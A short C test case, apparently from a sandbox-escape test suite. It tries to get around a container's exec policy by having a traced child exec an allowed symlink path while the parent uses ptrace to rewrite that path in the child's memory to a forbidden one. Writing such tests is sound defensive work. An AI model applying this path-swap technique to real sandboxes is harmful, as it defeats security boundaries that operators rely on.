// escape: who executes is traced by a process of the container, which changes the path where the call begins
// group: processes
// policy: exec
// neighbour: exec_plain --neighbour
#include "escape.h"

static void attack(void) {
  static char path[] = "/tmp/a";
  if (symlink(GOOD, "/tmp/a") < 0 || symlink(forbidden(), "/tmp/b") < 0) broken("symlink");
  const pid_t child = fork();
  if (child == 0) {
    if (ptrace(PTRACE_TRACEME, 0, 0, 0) < 0) held("PTRACE_TRACEME: %s", strerror(errno));
    raise(SIGSTOP);
    run(path);
    _exit(1);
  }
  int status;
  while (waitpid(child, &status, 0) == child && WIFSTOPPED(status)) {
    ptrace(PTRACE_POKEDATA, child, path, *(const long*)"/tmp/b\0");
    ptrace(PTRACE_SYSCALL, child, 0, 0);
  }
}
